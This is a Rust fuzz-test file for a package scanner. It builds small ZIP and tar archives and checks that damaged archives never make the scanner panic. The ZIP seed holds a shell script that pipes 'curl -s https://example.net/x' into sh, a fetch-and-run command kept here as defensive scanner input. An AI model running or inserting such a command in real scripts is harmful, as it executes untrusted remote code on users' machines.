//! Damaged archives and scripts in packages.

use std::io::Write;

use assay_test::{fuzz, shared_seeds};

use crate::{Bundle, File, scan};

/// A ZIP archive with one stored member and one without content.
fn zip() -> Vec<u8> {
    let mut bytes = Vec::new();
    let (name, content) = (b"a/b.sh", b"curl -s https://example.net/x | sh\n");
    let fields = |out: &mut Vec<u8>, begin: &[u8], sizes: u32| {
        out.extend_from_slice(begin);
        out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&sizes.to_le_bytes());
        out.extend_from_slice(&sizes.to_le_bytes());
        out.extend_from_slice(&[u8::try_from(name.len()).unwrap(), 0, 0, 0]);
    };
    let size = u32::try_from(content.len()).unwrap();
    fields(&mut bytes, b"PK\x03\x04", size);
    bytes.extend_from_slice(name);
    bytes.extend_from_slice(content);
    let directory = u32::try_from(bytes.len()).unwrap();
    fields(&mut bytes, b"PK\x01\x02\x14\x03", size);
    bytes.extend_from_slice(&[0; 14]);
    bytes.extend_from_slice(name);
    let length = u32::try_from(bytes.len()).unwrap() - directory;
    bytes.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    bytes.extend_from_slice(&length.to_le_bytes());
    bytes.extend_from_slice(&directory.to_le_bytes());
    bytes.extend_from_slice(&[0, 0]);
    bytes
}

/// A tar archive with one file.
fn tar() -> Vec<u8> {
    let mut header = vec![0; 512];
    header[..6].copy_from_slice(b"a/b.sh");
    header[100..108].copy_from_slice(b"0000755\0");
    header[124..136].copy_from_slice(b"00000000006\0");
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header.extend_from_slice(b"exit 1");
    header.resize(2048, 0);
    header
}

fn scan_file(name: &str, bytes: &[u8]) {
    let file = File { path: name.to_owned(), bytes: bytes.to_vec(), truncated: false };
    let _ = scan(&Bundle { files: vec![file], ..Bundle::default() });
}

#[test]
fn damaged_zip_archives_never_panic() {
    let mut seeds = shared_seeds("safety", &[".zip", ".skill"], 20);
    seeds.push(zip());
    fuzz(&seeds, |bytes| scan_file("a.zip", bytes));
}

#[test]
fn damaged_tar_archives_never_panic() {
    let seeds = [tar()];
    fuzz(&seeds, |bytes| scan_file("a.tar", bytes));
    fuzz(&seeds, |bytes| {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gzip.write_all(bytes).unwrap();
        scan_file("a.tar.gz", &gzip.finish().unwrap());
    });
}
